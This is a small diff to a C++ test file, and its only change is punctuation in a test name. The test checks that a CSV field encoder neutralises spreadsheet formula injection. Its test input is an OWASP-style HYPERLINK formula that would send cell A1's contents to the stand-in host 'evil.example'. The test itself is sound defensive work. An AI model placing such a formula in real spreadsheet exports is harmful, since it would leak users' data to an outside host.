@@ -599,7 +599,7 @@ TEST_CASE("views: a session's end summary") {
   CHECK(j.at("steps").at(0).at("progressed") == true);
 }
 
-TEST_CASE("CSV: formula injection is guarded (OWASP cases); plain numbers stay numbers") {
+TEST_CASE("CSV: formula injection is guarded (OWASP cases), plain numbers stay numbers") {
   // OWASP "CSV Injection": cells a spreadsheet would run as a formula.
   CHECK(csv_field("=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")") ==
         "\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"Click\"\")\"");
